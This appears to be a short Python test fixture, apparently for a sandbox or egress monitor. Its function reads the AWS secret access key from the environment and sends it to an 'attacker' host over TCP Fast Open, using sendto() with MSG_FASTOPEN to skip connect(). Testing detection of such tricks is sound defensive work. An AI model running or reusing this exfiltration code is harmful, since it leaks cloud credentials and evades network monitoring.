"""TCP without connect(): sendto() with MSG_FASTOPEN."""

import os
import socket


def attack(event):
    with socket.socket() as us:
        secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
        address = (event["attacker"], int(event["web"].partition(":")[2]))
        us.sendto(b"exfiltrated " + secret, 0x20000000, address)
        us.recv(100)
